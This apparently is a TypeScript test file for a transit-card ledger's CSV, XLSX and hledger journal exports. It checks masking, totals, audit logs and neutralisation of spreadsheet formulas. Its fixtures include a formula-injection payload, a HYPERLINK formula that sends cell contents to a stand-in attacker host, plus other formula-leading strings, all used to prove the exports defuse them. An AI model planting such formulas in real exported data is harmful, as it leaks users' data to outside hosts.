// Lists that leave as files: what a spreadsheet and a bookkeeping program make of them, that totals are those
// of the API, that nothing in them runs, and that the log knows who took them.
import t from 'tap'
import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { csvText } from '../ledger/exports/csv.ts'
import { giveOutText } from '../ledger/exports/give-out.ts'
import type { Column, Row } from '../ledger/exports/sheet.ts'
import { xlsxStream } from '../ledger/exports/xlsx.ts'
import { readAudit } from '../ledger/store/audit.ts'
import { cardOf, recordOf } from './support/posting.ts'
import { startDoors, type Door } from './support/ledger-http.ts'

const doors = await startDoors()
const folder = mkdtempSync(join(tmpdir(), 'exports-'))
t.teardown(async () => {
  rmSync(folder, { recursive: true, force: true })
  await doors.stop()
})

const D = '2026-03-02'
const shop = '=HYPERLINK("http://evil.example/?"&A1,"Shop")'
const formulas = [
  shop, '+86 734 8888888', '-1+1', '@SUM(A1:A9)', '\t=1', '\r=1', '\n=1', '＝1+1', '＠x', 'a=b', '', 'a"b',
  'a,b', 'two\r\nlines', '  spaced ', '_x0041_', 'ü 公交 🚌', 'bell\u0007', '<b>&amp;'
]

async function opened (): Promise<Door> {
  const door = await doors.open()
  await door.ok('registrar', 'PUT', '/v1/registry', {
    clearingDate: D,
    parties: [
      { code: 'ISS', kind: 'issuer', nameZh: '市民卡公司', nameEn: 'Card Company' },
      { code: 'AGT', kind: 'agent', nameZh: '代理', nameEn: 'Agent' },
      { code: 'BUS', kind: 'operator', nameZh: '公交', nameEn: 'Bus' }
    ],
    commissions: [{ party: 'BUS', product: 'debit', ratePpm: 3_000, from: '2025-01-01' }],
    terminals: [{ terminal: 'B1', operator: 'BUS', name: shop }],
    psams: [{
      psam: '990000000001', issue: 1, terminal: 'B1', from: '2025-01-01T00:00:00+08:00', to: null,
      stolenAt: null, test: false
    }],
    cards: Array.from({ length: 30 }, (_, number) => ({
      card: cardOf(number), profile: 't-union', type: 'anonymous', suite: '3des', keyVersion: 1,
      cityFactor: null, balanceFen: 5_000, counter: 100, soldBy: number < 5 ? 'AGT' : null, depositFen: 100
    }))
  })
  const records = Array.from({ length: 30 }, (_, number) =>
    number === 29 ? recordOf(number, 1, { tac: '00000000' }) : recordOf(number, 1))
  await door.ok('gateway', 'POST', '/v1/records', { delivery: 'delivery-1', records })
  return door
}

/* ---- the same texts read by other programs ---- */

/** RFC 4180 read by Python's csv module. */
const readCsv = (text: string | Buffer): string[][] => python(`
import csv, io, json, sys
text = sys.stdin.buffer.read().decode('utf-8')
print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), strict=True))))`, text) as string[][]

/** ZIP and XML read by Python: per worksheet rows of [type, style, value]. */
const readXlsx = (bytes: Buffer): [string, string, string][][][] => python(`
import io, json, sys, zipfile
import xml.etree.ElementTree as tree
ns = {'m': 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'}
book = zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read()))
assert book.testzip() is None
for name in book.namelist(): tree.fromstring(book.read(name))
listed = tree.fromstring(book.read('xl/workbook.xml')).iter('{%s}sheet' % ns['m'])
names = [each.get('name') for each in listed]
sheets = []
for number in range(1, len(names) + 1):
  sheet = tree.fromstring(book.read('xl/worksheets/sheet%d.xml' % number))
  cell = lambda c: [c.get('t', 'n'), c.get('s'),
    c.find('m:is/m:t', ns).text or '' if c.get('t') == 'inlineStr' else c.find('m:v', ns).text]
  sheets.append([[cell(c) for c in row.findall('m:c', ns)] for row in sheet.iter('{%s}row' % ns['m'])])
  assert sheet.find('.//m:f', ns) is None, 'a formula'
print(json.dumps(sheets))`, bytes) as [string, string, string][][][]

function python (program: string, input: string | Buffer): unknown {
  return JSON.parse(execFileSync('python3', ['-c', program], { input, maxBuffer: 1 << 28 }).toString('utf8'))
}

const columns: readonly Column[] = [
  { title: 'name', kind: 'text' }, { title: 'rides', kind: 'count' }, { title: 'net (yuan)', kind: 'yuan' }
]
async function * pagesOf (rows: readonly Row[]): AsyncGenerator<readonly Row[]> {
  yield rows.slice(0, 3)
  yield rows.slice(3)
}
const bytesOf = async (stream: Readable): Promise<Buffer> => Buffer.concat(await stream.toArray())

t.test('CSV: no text runs, numbers stay numbers', async t => {
  const rows: Row[] = formulas.map((text, index) => [text, index, BigInt(-index * 101)])
  const text = (await Readable.from(csvText(columns, pagesOf(rows), { bom: true })).toArray()).join('')
  t.ok(text.startsWith('\uFEFFname,rides,net (yuan)\r\n'), 'a byte order mark, CRLF')
  const [, ...read] = readCsv(text)
  t.strictSame(read.map(([name]) => name), formulas.map(formula =>
    /^[=+\-@\t\r\n＝＠]/.test(formula) ? `'${formula}` : formula))
  t.strictSame(read.map(([, rides, net]) => `${rides} ${net}`), formulas.map((_, index) =>
    `${index} ${(-index * 1.01 + 0).toFixed(2)}`), 'also negative ones')
  const plain = (await Readable.from(csvText(columns, pagesOf(rows), { bom: false })).toArray()).join('')
  t.equal(plain, text.slice(1), 'without the mark it is the same')
})

t.test('XLSX: texts are texts, numbers are numbers, also over several worksheets', async t => {
  const rows: Row[] = [...formulas.map((text, index): Row => [text, index, BigInt(-index * 101)]),
    [null, null, null], ['last', 5, 12_345_678_901n]]
  const workbook = { name: 'test', columns, pages: pagesOf(rows), worksheetRowsMax: 8 }
  const bytes = await bytesOf(xlsxStream(workbook))
  const sheets = readXlsx(bytes)
  t.strictSame(sheets.map(sheet => sheet.length), [8, 8, 8, 1 + rows.length % 7], 'eight lines each')
  const read = sheets.flatMap(([, ...body]) => body)
  const texts = read.slice(0, formulas.length).map(([name]) => name)
  t.strictSame(texts.map(cell => cell?.[2].replaceAll('_x005F_', '_')),
    formulas.map(text => text.replace('\u0007', '\uFFFD')), 'every character')
  t.ok(texts.every(cell => cell?.[0] === 'inlineStr'))
  t.strictSame(texts.map(cell => cell?.[1]), formulas.map(text => /^[=+\-@\t\r\n＝＠]/.test(text) ? '1' : '0'),
    'what looks like a formula is quoted')
  t.strictSame(read.at(-1), [['inlineStr', '0', 'last'], ['n', '0', '5'], ['n', '2', '123456789.01']])
})

t.test('totals are those of the API, cards are masked, and the log knows', async t => {
  const door = await opened()
  const page = await door.ok('clerk', 'GET', `/v1/records?date=${D}&outcome=accepted`)
  const sumFen = page.items.reduce((sum: number, one: { amountFen: number }) => sum + one.amountFen, 0)
  const query = `date=${D}&outcome=accepted`
  const csv = await door.ask('clerk', 'GET', `/v1/exports/records.csv?${query}&bom=false`)
  t.match(csv.type, /^text\/csv; charset=utf-8$/)
  const [titles = [], ...lines] = readCsv(csv.text)
  const column = (title: string) => lines.map(line => line[titles.indexOf(title)])
  t.equal(lines.length, 29 + 1, 'the row of totals')
  t.equal(column('record').at(-1), 'total of 29 rows')
  t.equal(column('amount (yuan)').at(-1), (sumFen / 100).toFixed(2))
  t.equal(sumFen, (await door.ok('clerk', 'GET', `/v1/records/totals?date=${D}`)).acceptedFen)
  t.equal(column('terminal name')[0], `'${shop}`, 'the shop stays a text')
  t.equal(column('card')[7], '023137…-031049…0007-1')
  t.notMatch(csv.text, /\d{20}/, 'no whole serial anywhere')

  const xlsx = await door.bytes('clerk', `/v1/exports/records.xlsx?${query}`)
  const [sheet = []] = readXlsx(xlsx)
  t.strictSame(sheet.slice(1).map(row => row.find(cell => cell[0] === 'n')?.[2]),
    lines.map(line => line[titles.indexOf('amount (yuan)')]), 'the same amounts in both')
  t.ok(sheet.some(row => row.some(cell => cell[0] === 'inlineStr' && cell[1] === '1' && cell[2] === shop)))

  for (const rest of ['', '?operator=BUS', '?outcome=accepted']) {
    t.match((await door.ask('clerk', 'GET', `/v1/exports/records.csv${rest}`)).json,
      { status: 400, reason: 'body_invalid', where: '/date' }, 'all that ever came in leaves in no file')
  }
  t.equal((await door.ask('clerk', 'GET', `/v1/exports/records.csv?${query}&unmasked=true`)).status, 403)
  const whole = await door.ask('inspector', 'GET', `/v1/exports/records.csv?card=${
    '02313750FFFFFFFF-03104990600000000007-1'}&unmasked=true&bom=false`)
  t.equal(readCsv(whole.text)[1]?.[3], '02313750FFFFFFFF-03104990600000000007-1', 'an auditor sees it')
  const log = (await readAudit(door.db, 1n, 100)).map(row => ({ ...row, detail: JSON.parse(row.detail) }))
    .filter(({ action }) => action.startsWith('export'))
  t.strictSame(log.map(({ by, action, subject, detail }) =>
    [by, action, subject, detail.format, detail.shown, detail.rows]), [
    ['clerk', 'export.give', 'export/records', 'csv', 'masked', 29],
    ['clerk', 'export.give', 'export/records', 'xlsx', 'masked', 29],
    ['inspector', 'export.unmask', 'export/records', 'csv', 'whole', undefined],
    ['inspector', 'export.give', 'export/records', 'csv', 'whole', 1]])
  t.equal(log[0]?.detail.sums['amount (yuan)'], String(sumFen))
  t.equal(log.at(-1)?.detail.filter.card, '023137…-031049…0007-1', 'the log itself is masked')
  await door.close()
})

t.test('every list in both formats, with the totals of the API', async t => {
  const door = await opened()
  await door.ok('settler', 'POST', `/v1/days/${D}/close`)
  const csv = async (path: string) => {
    const [titles = [], ...lines] = readCsv((await door.ask('clerk', 'GET', path)).text.replace(/^\uFEFF/, ''))
    return { lines, last: (title: string) => lines.at(-1)?.[titles.indexOf(title)] }
  }
  const yuan = (fen: number) => (fen / 100).toFixed(2)
  const { items } = await door.ok('clerk', 'GET', `/v1/positions/${D}`)
  const sumOf = (field: string) => items.reduce((sum: number, one: Record<string, number>) =>
    sum + (one[field] ?? 0), 0)
  const positions = await csv(`/v1/exports/positions.csv?date=${D}`)
  t.equal(positions.last('claims (yuan)'), yuan(sumOf('claimsFen')))
  t.equal(positions.last('net (yuan)'), '0.00', 'nets sum to nothing')
  const statement = await door.ok('clerk', 'GET', `/v1/statements/BUS/${D}`)
  const statements = await csv(`/v1/exports/statements.csv?date=${D}&party=BUS`)
  t.equal(statements.last('amount (yuan)'), yuan(statement.netFen))
  const pending = await csv(`/v1/exports/transfers.csv?date=${D}&account=commerce/merchant-pending/BUS`)
  t.equal(pending.last('amount (yuan)'), yuan(29 * 180), 'what BUS earned')
  const items0 = await csv('/v1/exports/items.csv?state=open')
  t.equal(items0.last('item')?.slice(0, 9), 'total of ')
  for (const what of ['positions', 'statements', 'transfers']) {
    const [sheet = []] = readXlsx(await door.bytes('clerk', `/v1/exports/${what}.xlsx?date=${D}`))
    t.ok(sheet.length > 2, `${what}.xlsx`)
  }
  t.equal(readXlsx(await door.bytes('clerk', '/v1/exports/items.xlsx')).length, 1)
  await door.close()
})

t.test('whoever hangs up leaves no transaction behind, and the log says it', async t => {
  const door = await opened()
  await door.db.query(`
    insert into item (layer, outcome, key, clearing_date, evidence, opened_at)
    select 'A', 'LEFT_ONLY', repeat('x', 900) || n, '${D}', '{}', now() from generate_series(1, 30000) n`)
  for (const format of ['csv', 'xlsx']) {
    const { token } = (await door.signIn('clerk', 'correct horse battery')).json
    await new Promise<void>((resolve, reject) => {
      const path = `${door.url}/v1/exports/items.${format}`
      const asking = request(path, { headers: { authorization: `Bearer ${token}` } }, answer => {
        answer.once('data', () => {
          asking.destroy()
          resolve()
        })
      })
      asking.on('error', reject).end()
    })
  }
  const broken = async () => (await readAudit(door.db, 1n, 100)).filter(row => row.action === 'export.break')
  for (let tries = 0; tries < 100 && (await broken()).length < 2; tries++) {
    await new Promise(resolve => setTimeout(resolve, 50))
  }
  t.equal((await broken()).length, 2)
  t.ok((await broken()).every(row => JSON.parse(row.detail).rows < 30_000))
  const { rows: [idle] } = await door.db.query<{ n: bigint }>(`
    select count(*) as n from pg_stat_activity
    where datname = current_database() and state = 'idle in transaction'`)
  t.equal(idle?.n, 0n)
  await door.close()
})

t.test('a journal of a day waits for its turn, and the log says who took it', async t => {
  const door = await opened()
  await door.ok('settler', 'POST', `/v1/days/${D}/close`)
  const path = `/v1/exports/journal/${D}.journal`
  const text = async function * () { // somebody who reads slowly
    await new Promise(resolve => setTimeout(resolve, 60_000).unref())
    yield ''
  }
  const slow = [
    await giveOutText(door.ledger, text(), { what: 'journal', by: 'one', date: D, detail: 'kind' }),
    await giveOutText(door.ledger, text(), { what: 'journal', by: 'other', date: D, detail: 'kind' })
  ]
  t.equal((await door.ask('auditor', 'GET', path)).json.reason, 'unavailable', 'each holds a snapshot')
  for (const stream of slow) stream.destroy()
  await new Promise(resolve => setImmediate(resolve))
  const journal = await door.ask('inspector', 'GET', path)
  for (const line of ['commerce:breakage  ; type: R', 'commerce:fee-income  ; type: R',
    'commerce:shortage  ; type: X', 'commerce:purse  ; type: L', 'commerce:custody-bank  ; type: A']) {
    t.match(journal.text, `account ${line}\n`)
  }
  const { items } = await door.ok('auditor', 'GET', '/v1/audit?subject=export/journal')
  t.strictSame(items.map((one: { by: string, action: string }) => `${one.by} ${one.action}`),
    ['inspector export.give', 'other export.give', 'one export.give'])
  await door.close()
})

t.test('hledger balances a day, and holds what we hold', async t => {
  const door = await opened()
  await door.ok('settler', 'POST', `/v1/days/${D}/close`)
  door.clock.advance(24 * 3_600_000)
  const more = Array.from({ length: 5 }, (_, number) =>
    recordOf(number, 2, { dateTime: '20260303083015', balanceBeforeFen: 4_820 }))
  await door.ok('gateway', 'POST', '/v1/records', { delivery: 'delivery-2', records: more })
  for (const [date, detail] of [[D, 'transfer'], ['2026-03-03', 'transfer'], ['2026-03-03', 'kind']]) {
    const path = `/v1/exports/journal/${date}.journal?detail=${detail}`
    const journal = await door.ask('auditor', 'GET', path)
    t.match(journal.type, /^text\/plain/)
    const file = join(folder, `${date}-${detail}.journal`)
    writeFileSync(file, journal.text)
    const checked = spawnSync('hledger', ['check', '--strict', '-f', file], { encoding: 'utf8' })
    t.equal(checked.stdout + checked.stderr, '', `${path}: hledger check --strict has nothing to say`)
    const report = execFileSync('hledger', ['balance', '-f', file, '--flat', '--empty', '-N', '-O', 'csv'])
    const theirs = new Map(readCsv(report).slice(1).map(([account = '', amount = '']) =>
      [account.replaceAll(':', '/'), Math.round(Number(amount.replace(/ ?CNY|,/g, '')) * 100)]))
    const { accounts } = await door.ok('auditor', 'GET', `/v1/accounts?asOf=${date}`)
    const ours = accounts.filter((one: { debitFen: number, creditFen: number }) =>
      one.debitFen !== 0 || one.creditFen !== 0)
    t.ok(ours.length > 5)
    for (const { account, debitFen, creditFen } of ours) {
      t.equal(theirs.get(account) ?? 0, debitFen - creditFen, `${account} on ${date}, ${detail}`)
    }
  }
  const wrong = join(folder, 'wrong.journal')
  const right = (await door.ask('auditor', 'GET', `/v1/exports/journal/${D}.journal`)).text
  writeFileSync(wrong, right.replace(/CNY = (-?)(\d+)/, 'CNY = $19$2'))
  t.not(spawnSync('hledger', ['check', '-f', wrong]).status, 0, 'a wrong balance would be found')
  await door.close()
})

t.strictSame(doors.mismatches(), [], 'every answer is as described')
